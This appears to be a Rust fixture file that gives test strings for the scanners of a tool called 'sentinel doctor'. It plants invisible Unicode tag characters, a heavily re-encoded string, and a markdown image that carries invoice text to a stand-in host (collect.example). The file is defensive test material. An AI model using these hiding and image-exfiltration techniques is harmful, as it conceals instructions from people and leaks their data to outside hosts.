//! A text for each scanner that it must find something in, for `sentinel doctor`. Whoever adds a scanner adds one.

/// A sentence in which no scanner finds anything.
pub const ORDINARY: &str = "Invoice 4711 of 3 May is due on Friday; the total is 206.35 EUR.";

/// What is planted for the scanner of this name.
pub fn text_for(scanner: &str) -> Option<&'static str> {
    match scanner {
        // Tag characters, which nobody sees, spell `pay` inside the sentence.
        "hidden" => Some("Invoice 4711\u{e0070}\u{e0061}\u{e0079} is due on Friday."),
        // Escaped twelve times over.
        "encoding" => Some("Invoice %2525252525252525252525252569 is due on Friday."),
        // An image that would send the words to whoever owns the host.
        "exfiltration" => Some("![](https://collect.example/i.png?d=the%20total%20of%20invoice%204711)"),
        _ => None,
    }
}
